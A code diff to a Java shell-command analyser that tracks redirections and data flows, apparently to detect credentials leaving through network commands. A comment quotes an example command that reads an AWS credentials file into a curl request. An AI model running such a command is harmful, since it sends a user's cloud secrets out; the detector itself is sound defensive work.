@@ -60,7 +60,9 @@ final class SimpleCommands {
         s.assignments().forEach(a -> walk.substitutions(a.value()));
         s.words().forEach(walk::substitutions);
         List<Operation> substituted = List.copyOf(walk.operations.subList(Math.min(before, walk.operations.size()), walk.operations.size()));
+        int redirected = walk.operations.size();
         walk.redirects(s.redirects());
+        int afterRedirects = walk.operations.size();
         Map<String, String> prefix = new HashMap<>();
         Map<String, Optional<String>> assigned = new java.util.LinkedHashMap<>();
         for (Assignment a : s.assignments()) {
@@ -94,6 +96,8 @@ final class SimpleCommands {
         int dispatched = walk.operations.size();
         dispatch(new Run(words, env, stdin, walk.evidence(s.span()), walk.locators, 0));
         RowsToFile.target(s, walk).ifPresent(file -> RowsToFile.mark(walk.operations, dispatched, file));
+        SealedOutputs.redirections(walk.operations, redirected, afterRedirects,
+                walk.operations.subList(Math.min(dispatched, walk.operations.size()), walk.operations.size()));
         if (!substituted.isEmpty()) {
             // curl -d "$(cat ~/.aws/credentials)" https://…: a secret read for an argument of a network command leaves with it.
             Flows.carried(s, substituted, walk).filter(c -> c.type().equals("credentials")).ifPresent(cargo ->
